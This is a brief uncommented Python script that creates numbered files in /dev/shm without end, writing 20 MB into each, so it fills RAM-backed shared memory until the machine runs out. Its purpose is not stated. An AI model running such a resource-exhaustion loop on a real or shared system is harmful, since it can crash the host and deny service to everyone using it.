import itertools
for number in itertools.count():
    with open(f"/dev/shm/{number}", "wb") as file:
        for _ in range(20):
            file.write(b"x" * 1_000_000)
